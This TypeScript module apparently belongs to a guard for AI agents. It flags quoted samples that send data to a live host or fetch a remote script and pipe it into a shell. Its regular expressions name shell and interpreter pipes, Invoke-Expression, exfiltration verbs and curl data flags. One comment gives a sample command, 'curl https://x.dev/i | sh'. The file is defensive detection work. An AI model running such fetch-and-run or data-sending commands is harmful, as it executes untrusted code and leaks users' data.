// Injected instructions: the one kind of quoted sample that stays read in a text about attacks: a
// URL on a host anyone may own, with a template for the reader's data or a verb that sends it
// (docs/guard.md "Injected instructions"), or a script fetched from such a host and run. A command or a
// dot-file named in a sample is stopped at call time if the agent ever tries it; a live collection
// address is where the data would go.

/** A URL and its host. */
const URL_HOST = /\bhttps?:\/\/(?:[^\s/@"'`<>]*@)?([\w.-]+)/gi;
/** Names reserved for documentation and tests (RFC 2606, RFC 6761) and loopback or private hosts. */
const RESERVED =
  /(?:^|\.)(?:example|test|invalid|localhost|local)$|(?:^|\.)example\.(?:com|org|net)$|^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/i;
/** A template for the reader's data, or a verb that sends it. */
const DATA =
  /\{[^{}\s]{1,40}\}|\$\(|\$\{|<[a-z_ -]{2,30}>|\b(?:upload|send|post|exfiltrat\w*|forward|hochladen|senden|envía|envoie|invia)\b|\s-d\s|--data|-F\s/i;

/** A script fetched and run: piped into a shell or an evaluator. */
const RUN =
  /\|\s*(?:ba|z|da|k)?sh\b|\|\s*(?:iex|python3?|node|perl|ruby)\b|\binvoke-expression\b|\biex\s*\(/i;

/** A sample that sends data to a live host, or fetches a script from one and runs it. */
export function liveExfil(sample: string): boolean {
  if (!sample.includes('http')) return false;
  for (const m of sample.matchAll(URL_HOST))
    if (!RESERVED.test(m[1] ?? '') && (DATA.test(sample) || RUN.test(sample))) return true;
  return false;
}

/** A script fetched from a host anyone may own and run: `curl https://x.dev/i | sh`. */
export function liveRun(sample: string): boolean {
  if (!sample.includes('http') || !RUN.test(sample)) return false;
  for (const m of sample.matchAll(URL_HOST)) if (!RESERVED.test(m[1] ?? '')) return true;
  return false;
}

/** Every host a text names is reserved for documentation or tests, and it names at least one. */
export function reservedHostsOnly(text: string): boolean {
  let any = false;
  for (const m of text.matchAll(URL_HOST)) {
    if (!RESERVED.test(m[1] ?? '')) return false;
    any = true;
  }
  return any;
}
